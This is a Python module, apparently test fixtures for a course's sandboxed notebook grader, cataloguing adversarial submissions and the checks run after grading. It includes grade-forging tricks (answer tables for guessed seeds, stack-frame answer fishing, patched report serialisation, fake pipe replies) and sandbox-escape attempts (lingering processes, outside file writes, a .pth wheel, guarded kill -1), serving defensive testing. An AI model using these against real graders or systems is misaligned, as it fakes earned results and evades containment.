"""Attack submissions for the sandboxed grader (course_lib.grading): a catalogue, by class of attack, of what a
learner could submit to get points they did not earn, or to reach outside the sandbox; and the checks to run
after the batch that show nothing got out.

    expected = attacks.make_attacks(folder)          # {notebook: Expected}, like submissions.make_bad
    expected |= attacks.make_special_files(folder)   # symlinks, a FIFO, a folder, over-size files, a hard link
    before = attacks.checkout_fingerprint(), attacks.files_fingerprint(other_submissions)
    ...grade the batch...
    time.sleep(attacks.DELAY + 1)                    # the late writers have had their chance
    assert attacks.alive_processes() == []
    assert [p for p in attacks.escape_paths(folder) if os.path.lexists(p)] == []
    assert attacks.escaped_files(folder) == []
    assert attacks.checkout_fingerprint() == before[0] ...
    for path, want in expected.items(): assert attacks.verdict_problems(path.stem, result, want) == []

WARNING: these notebooks really try what they say. Grade them only in the bubblewrap sandbox, never with
``--trusted`` or with the old in-process grader: there they kill processes, fill 2 GB of disk, write into the
checkout and the environment (harmless marker files and comments, but real writes), and leave processes behind.
The two ``kill -1`` attacks fire only when process 1 is bubblewrap's (they would end every process of the user,
root included, on a machine's own process table).

Conventions on top of ``submissions.Expected``: a status may be several, ``"error|not-available"``; ``"!passed"``
is any status but passed; ``"*"`` is anything (see :func:`status_matches`). ``MAX_TOTAL`` bounds the total of an
attack whose forged answers must not raise its score. :data:`GRADED_ONCE` marks the second name of a hard-linked
file: of the two names, one result. Everything an attack starts has ``COURSE_ATTACK_MARKER`` in its command
line, environment or thread name; every file it tries to create outside has it in its name.
"""
from __future__ import annotations

import base64
import concurrent.futures
import copy
import hashlib
import inspect
import io
import json
import os
import re
import shlex
import site
import stat
import subprocess
import sys
import sysconfig
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

import submissions
from submissions import WRONG_SOFTMAX, Expected, add_cell, base, replace_function, solution_cell, write

ROOT = submissions.ROOT
MARKER = "COURSE_ATTACK_MARKER"
DELAY = 3  # seconds a left-behind process waits before it tries to write outside
LINGER = 120  # seconds it then stays alive: long enough to be seen by alive_processes() after the batch
CANARY_VARIABLE = "COURSE_ATTACK_CANARY"  # set it in the grader's environment: it must never reach a feedback

UNAVAILABLE = "error|not-available"  # a function that relied on the course's stubbed code
NOT_PASSED = "!passed"
ANY = "*"
GRADED_ONCE = "graded-once"  # Expected.says names the other path of the same file
RAW_HTML = "<script>alert('COURSE_ATTACK_MARKER')</script>"  # must never reach a feedback page unescaped

BASE01 = submissions.BASE
BASE03 = ROOT / "solutions" / "03_self_attention_in_pytorch.ipynb"
BASE09 = ROOT / "solutions" / "09_linear_attention.ipynb"
HIDDEN_SEED_GUESSES = (0, 1, 1001, 1002, 42, 2024)  # the notebook's own seeds, and likely "secret" ones


def _graded(path: Path) -> dict[str, float]:
    """The graded functions of a solutions notebook, in order, with their points."""
    notebook = nbformat.read(str(path), as_version=4)
    found = {}
    for cell in notebook.cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("grade") and meta.get("grade_id", "").startswith("check_"):
            found[meta["grade_id"].removeprefix("check_")] = meta.get("points", 0)
    return found


def _solutions(path: Path) -> dict[str, str]:
    notebook = nbformat.read(str(path), as_version=4)
    return {name: solution_cell(notebook, name).source for name in _graded(path)}


FUNCTIONS = {path: _graded(path) for path in sorted((ROOT / "solutions").glob("*.ipynb"))}
SOLUTION = {path: _solutions(path) for path in (BASE01, BASE03, BASE09)}


# ----------------------------------------------------------------------------------------------------------
# Building blocks
# ----------------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class On:
    """An edit of another solutions notebook than 01 (plain edits apply to 01, as in submissions.BAD)."""

    notebook: Path
    edit: Callable


def edits(*steps: Callable) -> Callable:
    def edit(notebook):
        for step in steps:
            step(notebook)
    return edit


def at_end(source: str) -> Callable:
    return add_cell(source, position=10 ** 6)


def guarded(name: str, flag: str) -> Callable:
    """The solution of ``name`` (lesson 01), but raising first if the attack cell's list ``flag`` is not empty:
    an escape that worked shows in the verdict too (that function errs), not only after the batch."""
    head, rest = SOLUTION[BASE01][name].split("\n", 1)
    return replace_function(name, f"{head}\n    assert not {flag}, f'{MARKER} escaped: {{{flag}}}'\n{rest}")


def sdpa_returning(expression: str, prelude: str = "") -> Callable:
    """Lesson 03's solution sdpa with its output computed by ``expression`` (the weights stay its own)."""
    source = SOLUTION[BASE03]["sdpa"]
    line = "    return weights @ value, weights  # (..., T, Dv), (..., T, S)"
    assert line in source
    source = source.replace(line, f"    return {expression}, weights")
    if prelude:
        head, rest = source.split("\n", 1)
        source = f"{head}\n    {prelude}\n{rest}"
    return replace_function("sdpa", source)


def strip_metadata(notebook) -> None:
    for cell in notebook.cells:
        cell.metadata = {}


def merge_code_cells(notebook) -> None:
    """All code in one cell, but the check cells (they call course_lib.checks), and no metadata anywhere."""
    code = [c.source.replace("from course_lib import checks\n", "") for c in notebook.cells
            if c.cell_type == "code" and not c.get("metadata", {}).get("nbgrader", {}).get("grade")]
    notebook.cells = [nbformat.v4.new_code_cell("\n\n".join(code))]
    notebook.metadata = {}


# What a cell that writes outside starts with: DIRS is filled in by make_attacks.
PLANT = '''import os
DIRS = @DIRS@  # outside the sandbox: temp folders, the checkout, course_lib, the environment, submissions, grades, homes

def plant(tag):
    """Try to create COURSE_ATTACK_MARKER_<tag> in each of DIRS; return the folders where that worked."""
    done = []
    for folder in DIRS:
        try:
            with open(os.path.join(folder, "COURSE_ATTACK_MARKER_" + tag), "w") as file:
                file.write("escaped")
            done.append(folder)
        except OSError:
            pass
    return done
'''

# A process left behind: its command line carries the marker; it waits DELAY s, tries to write outside, lingers.
CHILD = '''# COURSE_ATTACK_MARKER: a process left behind by a submission
import os, sys, time
tag, delay, linger, folders = sys.argv[1], float(sys.argv[2]), float(sys.argv[3]), sys.argv[4:]
time.sleep(delay)
for folder in folders:
    try:
        with open(os.path.join(folder, "COURSE_ATTACK_MARKER_" + tag), "w") as file:
            file.write("escaped")
    except OSError:
        pass
time.sleep(linger)
'''
CHILD_CELL = PLANT + f"import subprocess, sys\nCHILD = {CHILD!r}\n\ndef child_argv(tag):\n" \
                     f"    return [sys.executable, '-c', CHILD, tag, '{DELAY}', '{LINGER}', *DIRS]\n"
WRITE_TAGS = ("direct", "setsid", "popen_session", "nohup", "double_fork", "bash_job", "thread")
IN_BWRAP = ('def in_bubblewrap():  # SAFETY: fire only where process 1 is the sandbox\'s own init\n'
            '    try:\n        with open("/proc/1/comm") as file:\n            return file.read().strip() == "bwrap"\n'
            '    except OSError:\n        return False\n')


def answer_key(arrays, extra: str = "") -> str:
    """What an answer table is keyed by: the exact dtype, shape and bytes of the inputs (and an option)."""
    import hashlib

    import numpy as np

    digest = hashlib.sha256(extra.encode())
    for array in arrays:
        array = np.ascontiguousarray(array)
        digest.update(f"{array.dtype.str}{array.shape}".encode())
        digest.update(array.tobytes())
    return digest.hexdigest()


def _pack(value):
    import numpy as np

    if isinstance(value, tuple):
        return ["tuple", [_pack(v) for v in value]]
    value = np.ascontiguousarray(value)
    return ["array", value.dtype.str, list(value.shape), base64.b64encode(value.tobytes()).decode()]


UNPACK = '''def unpack(entry):
    if entry[0] == "tuple":
        return tuple(unpack(item) for item in entry[1])
    _, dtype, shape, data = entry
    return np.frombuffer(base64.b64decode(data), dtype=dtype).reshape(shape).copy()
'''


def answer_tables(seeds=HIDDEN_SEED_GUESSES) -> list[dict]:
    """The course reference's answers to every case the checks of lesson 01 make with ``seeds``, computed here,
    outside any sandbox: what a learner could tabulate with the course's own code at home."""
    import numpy as np

    from course_lib import checks

    tables = []
    for name in FUNCTIONS[BASE01]:
        check, table = checks.CHECKS[name], {}
        for seed in seeds:
            for case in check.make_cases(np.random.default_rng(seed)):
                assert set(case.kwargs) <= {"axis"}, case.kwargs
                extra = repr(case.kwargs.get("axis", -1)) if name == "softmax" else ""
                answer = check.answer(*copy.deepcopy(case.args), **copy.deepcopy(case.kwargs))
                table[answer_key(case.args, extra)] = _pack(answer)
        tables.append(table)
    return tables


def table_cell() -> str:
    tables = answer_tables()
    lines = ["import base64, hashlib", "import numpy as np", ""]
    lines += [f"TABLE_{i} = {table!r}" for i, table in enumerate(tables, 1)]
    return "\n".join(lines) + "\n\n" + inspect.getsource(answer_key) + "\n" + UNPACK


TABLE_FUNCTIONS = (
    replace_function("softmax", "def softmax(x, axis=-1):\n    entry = TABLE_1.get(answer_key((x,), repr(axis)))\n"
                                "    return unpack(entry) if entry else np.exp(x) / np.exp(x).sum()\n"),
    replace_function("attention_scores", "def attention_scores(queries, keys):\n"
                                         "    entry = TABLE_2.get(answer_key((queries, keys)))\n"
                                         "    return unpack(entry) if entry else queries @ np.swapaxes(keys, -1, -2)\n"),
    replace_function("scaled_dot_product_attention",
                     "def scaled_dot_product_attention(queries, keys, values):\n"
                     "    entry = TABLE_3.get(answer_key((queries, keys, values)))\n"
                     "    return unpack(entry) if entry else (values, values)\n"),
)


def answer_table(forced_seed: bool = False) -> Callable:
    def edit(notebook):
        source = table_cell()
        if forced_seed:  # and every generator the cases could come from is seeded with a seed of the table
            source += ("\nimport random\n_default_rng, _seed = np.random.default_rng, np.random.seed\n"
                       "np.random.default_rng = lambda *args, **kwargs: _default_rng(1001)\n"
                       "np.random.seed = lambda *args, **kwargs: _seed(1001)\n"
                       "random.seed = lambda *args, **kwargs: None\n")
        add_cell(source)(notebook)
        for step in TABLE_FUNCTIONS:
            step(notebook)
    return edit


def wheel_bytes() -> bytes:
    """A wheel that installs a module and a .pth file named with the marker; the .pth, if it ever runs, makes
    /tmp/COURSE_ATTACK_MARKER_pth_ran. Built here as plain data: installing it is the attack's job."""
    info = "course_attack_marker-0.1.dist-info"
    files = {
        f"{MARKER}_pip.py": f"# {MARKER}: installed by a submission\n",
        f"{MARKER}_pip.pth": f"import os; os.makedirs('/tmp/{MARKER}_pth_ran', exist_ok=True)\n",
        f"{info}/METADATA": "Metadata-Version: 2.1\nName: course-attack-marker\nVersion: 0.1\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: attacks\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = []
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as wheel:
        for name, text in files.items():
            data = text.encode()
            digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
            record.append(f"{name},sha256={digest},{len(data)}")
            wheel.writestr(name, data)
        wheel.writestr(f"{info}/RECORD", "\n".join([*record, f"{info}/RECORD,,"]) + "\n")
    return buffer.getvalue()


WHEEL = "course_attack_marker-0.1-py3-none-any.whl"

# Lesson 09: a learner's own linear_attention that also does the causal case (it passes its own check)
LINEAR_WITH_FLAG = '''def linear_attention(query, key, value, is_causal=False):
    query_features, key_features = elu_feature_map(query), elu_feature_map(key)  # (..., T, D), (..., S, D)
    if is_causal:
        states = torch.cumsum(key_features.unsqueeze(-1) * value.unsqueeze(-2), dim=-3)  # (..., T, D, Dv)
        normalisers = torch.cumsum(key_features, dim=-2)  # (..., T, D)
        numerators = (query_features.unsqueeze(-2) @ states).squeeze(-2)  # (..., T, Dv)
        return numerators / (query_features * normalisers).sum(dim=-1, keepdim=True)
    summary = key_features.transpose(-2, -1) @ value  # (..., D, Dv)
    normaliser = key_features.sum(dim=-2, keepdim=True)  # (..., 1, D)
    return (query_features @ summary) / (query_features @ normaliser.transpose(-2, -1))
'''

SELF_ATTENTION_HEAD = '''class SelfAttention(nn.Module):
    def __init__(self, d_model, d_head):
        super().__init__()
        self.query = nn.Linear(d_model, d_head, bias=False)
        self.key = nn.Linear(d_model, d_head, bias=False)
        self.value = nn.Linear(d_model, d_head, bias=False)
'''

# ----------------------------------------------------------------------------------------------------------
# The catalogue: name -> (edit of solutions 01, or On(other notebook, edit); expected verdict)
# ----------------------------------------------------------------------------------------------------------

ATTACKS: dict[str, tuple[object, Expected]] = {}
MAX_TOTAL: dict[str, float] = {}  # attack -> the most points it may end with


def attack(name: str, content, expected: Expected, max_total: float | None = None) -> None:
    assert name not in ATTACKS, name
    ATTACKS[name] = (content, expected)
    if max_total is not None:
        MAX_TOTAL[name] = max_total


# --- 1. The course's own code: stubbed in the sandbox ("not available while grading") ---------------------
# (attention_scores is the target: lesson 01's softmax and sdpa also count words like "softmax" and
# "scaled_dot_product" as library calls, which would hide the status these attacks are about)
STUBBED = Expected("ok", {"attention_scores": UNAVAILABLE}, says="not available while grading")

attack("reference_through_checks", replace_function("attention_scores",  # the check's own reference
       "def attention_scores(queries, keys):\n    from course_lib import checks as course_checks\n"
       "    return course_checks.CHECKS['attention_scores'].answer(queries, keys)\n"), STUBBED)
attack("reference_through_a_lesson_checks_module", replace_function("attention_scores",  # the package's own modules
       "def attention_scores(queries, keys):\n    from course_lib.checks.l01_attention_by_hand import check_attention_scores\n"
       "    return check_attention_scores.answer(queries, keys)\n"), Expected("ok", {"attention_scores": UNAVAILABLE}))
attack("reference_in_a_thread", replace_function("attention_scores",  # another thread: a per-thread watch misses it
       "from concurrent.futures import ThreadPoolExecutor\nfrom course_lib import numpy_attention\n\n"
       "def attention_scores(queries, keys):\n    with ThreadPoolExecutor(1) as pool:\n"
       "        return pool.submit(numpy_attention.attention_scores, queries, keys).result()\n"), STUBBED)
attack("reference_by_cloned_code", replace_function("attention_scores",  # same code, new identity and name
       "import types\nfrom course_lib import numpy_attention\n\n_course = numpy_attention.attention_scores\n"
       "_clone = types.FunctionType(_course.__code__, _course.__globals__, 'helper', _course.__defaults__,\n"
       "                            _course.__closure__)\n\n"
       "def attention_scores(queries, keys):\n    return _clone(queries, keys)\n"),  # __code__: not read
       Expected("ok", {"attention_scores": "unverifiable"}, says="__code__"))
attack("reference_from_module_source", edits(  # re-executes the module's file: no import hook sees it
       add_cell("import importlib.util\n_spec = importlib.util.find_spec('course_lib.numpy_attention')\n"
                "_scope = {'__name__': 'course_lib_copy'}\nwith open(_spec.origin) as _file:\n"
                "    exec(compile(_file.read(), _spec.origin, 'exec'), _scope)\n"),
       replace_function("attention_scores", "def attention_scores(queries, keys):\n"
                                            "    return _scope['attention_scores'](queries, keys)\n")), STUBBED)
attack("reference_reimported_from_the_checkout", edits(  # the real course_lib, from the checkout's path
       add_cell("import sys\nsys.path.insert(0, @ROOT@)\n"
                "for _name in [n for n in sys.modules if n == 'course_lib' or n.startswith('course_lib.')]:\n"
                "    del sys.modules[_name]\nfrom course_lib.numpy_attention import attention_scores as _fresh\n"),
       replace_function("attention_scores", "def attention_scores(queries, keys):\n    return _fresh(queries, keys)\n")),
       Expected("ok", {"attention_scores": UNAVAILABLE}))
attack("reference_with_the_watches_off", edits(  # no profile or trace hook can be installed any more
       add_cell("import sys, threading\nsys.setprofile = sys.settrace = lambda *args, **kwargs: None\n"
                "threading.setprofile = threading.settrace = lambda *args, **kwargs: None\n"
                "sys.getprofile = lambda: (lambda *args: None)  # 'a hook is installed'\n"),
       replace_function("attention_scores", "from course_lib import numpy_attention\n\n"
                                            "def attention_scores(queries, keys):\n"
                                            "    return numpy_attention.attention_scores(queries, keys)\n")), STUBBED)
attack("withheld_helper_in_the_torch_lesson", On(BASE03, replace_function("sdpa",  # the course's masked softmax
       "def sdpa(query, key, value, attn_mask=None, is_causal=False):\n"
       "    from course_lib import attention as course\n"
       "    scores = query @ key.transpose(-2, -1) / math.sqrt(query.shape[-1])\n"
       "    if is_causal:\n        attn_mask = torch.ones(query.shape[-2], key.shape[-2], dtype=torch.bool).tril()\n"
       "    if attn_mask is not None and attn_mask.dtype == torch.bool:\n"
       "        scores = scores.masked_fill(~attn_mask, float('-inf'))\n"
       "    elif attn_mask is not None:\n        scores = scores + attn_mask\n"
       "    weights = course.masked_softmax(scores)\n    return weights @ value, weights\n")),
       Expected("ok", {"sdpa": UNAVAILABLE}, says="not available while grading"))
attack("withheld_helper_in_the_linear_lesson", On(BASE09, replace_function("causal_linear_attention",
       "def causal_linear_attention(query, key, value):\n    from course_lib import linear as course\n"
       "    return course.kernel_attention(elu_feature_map(query), elu_feature_map(key), value, is_causal=True)\n")),
       Expected("ok", {"causal_linear_attention": UNAVAILABLE}, says="not available while grading"))

# --- 2. torch's own attention in a graded function: "library-call" ---------------------------------------
LIBRARY = Expected("ok", {"sdpa": "library-call"})
F_IMPORT = "import torch.nn.functional as F"
attack("library_sdpa_direct", On(BASE03, sdpa_returning(
       "F.scaled_dot_product_attention(query, key, value, attn_mask=attn_mask)", F_IMPORT)), LIBRARY)
attack("library_sdpa_alias_in_another_cell", On(BASE03, edits(  # the alias is made at top level
       add_cell("blend = torch.nn.functional.scaled_dot_product_attention\n"),
       sdpa_returning("blend(query, key, value, attn_mask=attn_mask)"))), LIBRARY)
attack("library_sdpa_imported_as", On(BASE03, sdpa_returning(
       "mix(query, key, value, attn_mask=attn_mask)",
       "from torch.nn.functional import scaled_dot_product_attention as mix")), LIBRARY)
attack("library_sdpa_by_string_constant", On(BASE03, sdpa_returning(
       "getattr(torch.nn.functional, 'scaled_dot_product_attention')(query, key, value, attn_mask=attn_mask)")), LIBRARY)
attack("library_sdpa_through_vars", On(BASE03, sdpa_returning(
       "vars(F)['scaled_dot_product_attention'](query, key, value, attn_mask=attn_mask)", F_IMPORT)), LIBRARY)
attack("library_aten_op", On(BASE03, replace_function("sdpa",  # the operator under F.sdpa: returns both
       "def sdpa(query, key, value, attn_mask=None, is_causal=False):\n"
       "    return torch.ops.aten._scaled_dot_product_attention_math(query, key, value, attn_mask, 0.0, is_causal)\n")),
       LIBRARY)
attack("library_aten_alias_in_another_cell", On(BASE03, edits(
       add_cell("kernel = torch.ops.aten._scaled_dot_product_attention_math\n"),
       replace_function("sdpa", "def sdpa(query, key, value, attn_mask=None, is_causal=False):\n"
                                "    return kernel(query, key, value, attn_mask, 0.0, is_causal)\n"))), LIBRARY)
attack("library_in_a_helper_cell", On(BASE03, edits(  # an ordinary function, in an ordinary cell, does the work
       add_cell(f"{F_IMPORT}\n\ndef attend(query, key, value, mask):\n"
                "    return F.scaled_dot_product_attention(query, key, value, attn_mask=mask)\n"),
       sdpa_returning("attend(query, key, value, attn_mask)"))), LIBRARY)
attack("library_by_decorator", On(BASE03, edits(  # the graded def is kept, a decorator swaps its output
       add_cell(f"{F_IMPORT}\n\ndef faster(function):\n"
                "    def wrapper(query, key, value, attn_mask=None, is_causal=False):\n"
                "        _, weights = function(query, key, value, attn_mask=attn_mask, is_causal=is_causal)\n"
                "        return F.scaled_dot_product_attention(query, key, value, attn_mask=attn_mask), weights\n"
                "    return wrapper\n"),
       replace_function("sdpa", "@faster\n" + SOLUTION[BASE03]["sdpa"]))), LIBRARY)
attack("library_multihead_module", On(BASE03, replace_function("SelfAttention", SELF_ATTENTION_HEAD +
       "        self.attend = nn.MultiheadAttention(d_head, 1, bias=False, batch_first=True)\n"
       "        with torch.no_grad():  # identity projections: torch's module does only the attention\n"
       "            self.attend.in_proj_weight.copy_(torch.eye(d_head).repeat(3, 1))\n"
       "            self.attend.out_proj.weight.copy_(torch.eye(d_head))\n\n"
       "    def forward(self, x, attn_mask=None):\n"
       "        mask = ~attn_mask if attn_mask is not None and attn_mask.dtype == torch.bool else attn_mask\n"
       "        output, _ = self.attend(self.query(x), self.key(x), self.value(x), attn_mask=mask, need_weights=False)\n"
       "        return output\n")), Expected("ok", {"SelfAttention": "library-call"}))
attack("library_multi_head_attention_forward", On(BASE03, replace_function("SelfAttention", SELF_ATTENTION_HEAD +
       "\n    def forward(self, x, attn_mask=None):\n"
       "        import torch.nn.functional as F\n"
       "        q, k, v = (p(x).transpose(0, 1) for p in (self.query, self.key, self.value))  # (T, B, d_head)\n"
       "        eye = torch.eye(q.shape[-1], dtype=q.dtype)\n"
       "        mask = ~attn_mask if attn_mask is not None and attn_mask.dtype == torch.bool else attn_mask\n"
       "        output, _ = F.multi_head_attention_forward(q, k, v, q.shape[-1], 1, eye.repeat(3, 1), None, None, None,\n"
       "                                                   False, 0.0, eye, None, training=False,\n"
       "                                                   need_weights=False, attn_mask=mask)\n"
       "        return output.transpose(0, 1)\n")), Expected("ok", {"SelfAttention": "library-call"}))
attack("library_found_by_name_fragment", On(BASE03, sdpa_returning(  # no whole name anywhere in the source
       "next(f for n, f in vars(F).items() if n.endswith('dot_product_attention'))(query, key, value, attn_mask=attn_mask)",
       F_IMPORT)), Expected("ok", {"sdpa": "library-call|unverifiable"}))

# --- 3. Code the grader cannot read: "unverifiable" --------------------------------------------------------
attack("exec_in_function", replace_function("softmax",
       "def softmax(x, axis=-1):\n    scope = {'np': np, 'x': x, 'axis': axis}\n"
       "    exec('e = np.exp(x - np.max(x, axis=axis, keepdims=True))\\nout = e / e.sum(axis=axis, keepdims=True)', scope)\n"
       "    return scope['out']\n"), Expected("ok", {"softmax": "unverifiable"}))
attack("eval_in_function", replace_function("attention_scores",
       "def attention_scores(queries, keys):\n"
       "    return eval('queries @ np.swapaxes(keys, -1, -2) / np.sqrt(queries.shape[-1])')\n"),
       Expected("ok", {"attention_scores": "unverifiable"}))
attack("compile_in_function", replace_function("scaled_dot_product_attention",  # compile + FunctionType, no exec
       "import types\n\ndef scaled_dot_product_attention(queries, keys, values):\n"
       "    body = compile('def weigh(s):\\n    return softmax(s, axis=-1)\\n', '<mine>', 'exec').co_consts[0]\n"
       "    weights = types.FunctionType(body, globals())(attention_scores(queries, keys))\n"
       "    return weights @ values, weights\n"),
       Expected("ok", {"scaled_dot_product_attention": "unverifiable"}))
attack("dunder_import_in_function", replace_function("softmax",
       "def softmax(x, axis=-1):\n    numpy = __import__('numpy')\n"
       "    e = numpy.exp(x - numpy.max(x, axis=axis, keepdims=True))\n    return e / e.sum(axis=axis, keepdims=True)\n"),
       Expected("ok", {"softmax": "unverifiable"}))
attack("importlib_in_function", replace_function("attention_scores",
       "import importlib\n\ndef attention_scores(queries, keys):\n    numpy = importlib.import_module('numpy')\n"
       "    return queries @ numpy.swapaxes(keys, -1, -2) / numpy.sqrt(queries.shape[-1])\n"),
       Expected("ok", {"attention_scores": "unverifiable"}))
attack("dynamic_getattr_in_function", replace_function("softmax",
       "def softmax(x, axis=-1):\n    exp = getattr(np, ''.join(['ex', 'p']))\n"
       "    e = exp(x - np.max(x, axis=axis, keepdims=True))\n    return e / e.sum(axis=axis, keepdims=True)\n"),
       Expected("ok", {"softmax": "unverifiable"}))
attack("exec_through_a_builtins_lookup", replace_function("softmax",  # exec without the word exec
       "import builtins\n\ndef softmax(x, axis=-1):\n    run, scope = vars(builtins)['ex' + 'ec'], {'np': np, 'x': x}\n"
       "    run('e = np.exp(x - x.max(axis=' + str(axis) + ', keepdims=True))\\n"
       "out = e / e.sum(axis=' + str(axis) + ', keepdims=True)', scope)\n    return scope['out']\n"),
       Expected("ok", {"softmax": "unverifiable"}))
attack("exec_in_a_helper_cell", edits(  # the exec sits in an ordinary cell's function, called from the graded one
       add_cell("def run(source, **names):\n    exec(source, names)\n    return names\n"),
       replace_function("softmax", "def softmax(x, axis=-1):\n"
                        "    return run('e = np.exp(x - np.max(x, axis=axis, keepdims=True))\\n"
                        "out = e / e.sum(axis=axis, keepdims=True)', np=np, x=x, axis=axis)['out']\n")),
       Expected("ok", {"softmax": "unverifiable"}))
attack("library_by_dynamic_getattr", On(BASE03, sdpa_returning(  # torch's attention, by a computed name
       "getattr(F, '_'.join(['scaled', 'dot', 'product', 'attention']))(query, key, value, attn_mask=attn_mask)",
       F_IMPORT)), Expected("ok", {"sdpa": "unverifiable"}))
attack("library_by_concatenated_key", On(BASE03, sdpa_returning(
       "vars(F)['scaled_dot_' + 'product_attention'](query, key, value, attn_mask=attn_mask)", F_IMPORT)),
       Expected("ok", {"sdpa": "unverifiable|library-call"}))

# --- 4. Hidden seeds: answers tabulated or fished for fail -------------------------------------------------
ALL_FAILED = Expected("ok", {name: "failed" for name in FUNCTIONS[BASE01]})
attack("answer_table", answer_table(), ALL_FAILED)  # the reference's answers for seeds 0, 1, 1001, 1002, 42, 2024
attack("answer_table_with_forced_seeds", answer_table(forced_seed=True), ALL_FAILED)  # and every rng seeded 1001
attack("looks_for_the_answer_in_the_stack", replace_function("softmax",  # the grader's locals, and every container
       "import gc, sys\n\ndef softmax(x, axis=-1):\n    def candidates():\n        frame = sys._getframe(1)\n"
       "        while frame is not None:\n            yield from list(frame.f_locals.values())\n"
       "            frame = frame.f_back\n        for holder in gc.get_objects():\n"
       "            if isinstance(holder, (list, tuple)):\n                yield from holder\n"
       "            elif isinstance(holder, dict):\n                yield from list(holder.values())\n"
       "    for value in candidates():\n        try:\n"
       "            if isinstance(value, np.ndarray) and value.shape == np.shape(x) and value is not x \\\n"
       "                    and np.allclose(value.sum(axis=axis), 1):\n                return value.copy()\n"
       "        except Exception:\n            pass\n    return np.exp(x) / np.exp(x).sum()\n"),
       Expected("ok", {"softmax": "unverifiable"}))  # frames and gc: not read

# --- 5. The graded functions the grader lends: only earlier ones, with the exercise's signature ----------
attack("lent_function_called_with_is_causal", On(BASE09, edits(
       replace_function("linear_attention", LINEAR_WITH_FLAG),
       replace_function("causal_linear_attention", "def causal_linear_attention(query, key, value):\n"
                        "    return linear_attention(query, key, value, is_causal=True)\n"))),
       Expected("ok", {"causal_linear_attention": "error"}, says="is_causal"))
attack("lent_function_given_an_extra_argument", On(BASE09, edits(
       replace_function("linear_attention", LINEAR_WITH_FLAG),
       replace_function("causal_linear_attention", "def causal_linear_attention(query, key, value):\n"
                        "    return linear_attention(query, key, value, True)\n"))),
       Expected("ok", {"causal_linear_attention": "error"}))
attack("lent_function_unwrapped", On(BASE09, replace_function("causal_linear_attention",  # what is behind it?
       "import inspect\n\ndef causal_linear_attention(query, key, value):\n"
       "    found = [linear_attention, inspect.unwrap(linear_attention), *linear_attention.__globals__.values()]\n"
       "    for candidate in found:\n        try:\n"
       "            if 'is_causal' in inspect.signature(candidate).parameters:\n"
       "                return candidate(query, key, value, is_causal=True)\n"
       "        except (TypeError, ValueError):\n            continue\n"
       "    raise LookupError('COURSE_ATTACK_MARKER: nothing lent takes is_causal')\n")),
       Expected("ok", {"causal_linear_attention": "unverifiable"}, says="__globals__"))
attack("leaks_the_lent_solution", On(BASE09, replace_function("causal_linear_attention",  # into its feedback
       "def causal_linear_attention(query, key, value):\n    code = linear_attention.__code__\n"
       "    raise RuntimeError(f'COURSE_ATTACK_MARKER leak: {code.co_varnames} {code.co_names} {code.co_consts}')\n")),
       Expected("ok", {"causal_linear_attention": "unverifiable"}, says="__code__"))  # never run: nothing leaks
attack("calls_a_later_function", edits(  # attention_scores from sdpa's weights, sdpa itself deleted
       replace_function("attention_scores", "def attention_scores(queries, keys):\n"
                        "    zero = np.zeros(keys.shape[:-2] + (1, keys.shape[-1]))  # a key whose score is 0\n"
                        "    keys_plus = np.concatenate([zero, keys], axis=-2)\n"
                        "    _, weights = scaled_dot_product_attention(queries, keys_plus, np.zeros(keys_plus.shape[:-1] + (1,)))\n"
                        "    scores = np.log(weights[..., 1:] / weights[..., :1])  # s_j - 0\n"
                        "    return scores.astype(np.result_type(queries, keys))\n"),
       submissions.delete_function("scaled_dot_product_attention")),
       Expected("ok", {"attention_scores": "error", "scaled_dot_product_attention": "missing"}))

# --- 6. Tampering with the grader's machinery inside the sandbox: a wrong softmax must stay wrong --------
FORGED = Expected(ANY, {"softmax": NOT_PASSED, "attention_scores": ANY, "scaled_dot_product_attention": ANY})
attack("truncates_the_case_list", replace_function("softmax",  # right on the first case (a vector), then stops
       "import sys\n\ndef softmax(x, axis=-1):\n    frame = sys._getframe(1)\n    while frame is not None:\n"
       "        request = frame.f_locals.get('request')\n"
       "        if isinstance(request, dict) and isinstance(request.get('cases'), list):\n"
       "            del request['cases'][1:]\n        frame = frame.f_back\n"
       "    return np.exp(x) / np.exp(x).sum()\n"), Expected("ok", {"softmax": "failed|error|unverifiable"}), max_total=3)
attack("forges_the_report_through_json", edits(replace_function("softmax", WRONG_SOFTMAX), add_cell(
       "import json\n_dumps = json.dumps\n\ndef _forge(value):\n"
       "    '''Every list of attempts becomes empty; the rest is kept.'''\n"
       "    if isinstance(value, dict):\n        forged = {key: _forge(item) for key, item in value.items()}\n"
       "        if 'attempts' in forged:\n"
       "            forged['attempts'] = [] if isinstance(value['attempts'], list) else {'type': 'list', 'items': []}\n"
       "        return forged\n    if isinstance(value, list):\n        return [_forge(item) for item in value]\n"
       "    return value\n\njson.dumps = lambda obj, *args, **kwargs: _dumps(_forge(obj), *args, **kwargs)\n")),
       FORGED, max_total=3)
attack("forges_the_report_through_the_worker_modules", edits(replace_function("softmax", WRONG_SOFTMAX), add_cell(
       "try:\n    from course_lib import checking\n    from course_lib.grading import protocol\nexcept ImportError:\n"
       "    pass\nelse:\n    checking.run_case = lambda invoke, case, seconds: checking.Attempt('returned', got=None)\n"
       "    _real_dumps = protocol.dumps\n"
       "    protocol.dumps = lambda tree: _real_dumps({**tree, 'attempts': []} if isinstance(tree, dict) and 'attempts' in tree else tree)\n")),
       FORGED, max_total=3)
attack("rewrites_the_worker_from_its_frames", edits(replace_function("softmax", WRONG_SOFTMAX), add_cell(
       "import sys\n_frame = sys._getframe()\nwhile _frame is not None:  # up to the worker's own module\n"
       "    if 'grade' in _frame.f_globals and 'run_cell' in _frame.f_globals:\n"
       "        _frame.f_globals['grade'] = lambda namespace, name, request, header: {\n"
       "            'missing': False, 'preflight': None, 'attempts': []}\n"
       "    _frame = _frame.f_back\n")), FORGED, max_total=3)
attack("writes_fake_replies", edits(replace_function("softmax", WRONG_SOFTMAX), add_cell(  # into the reply pipe
       "import fcntl, json, os\ntry:\n    from course_lib.grading import protocol\n"
       "    _report = protocol.dumps({'missing': False, 'preflight': None, 'attempts': []})\nexcept Exception:\n"
       "    _report = b''\n_cell = json.dumps({'op': 'cell', 'kind': 'ok', 'exit': False, 'bytes': 0}).encode() + b'\\n'\n"
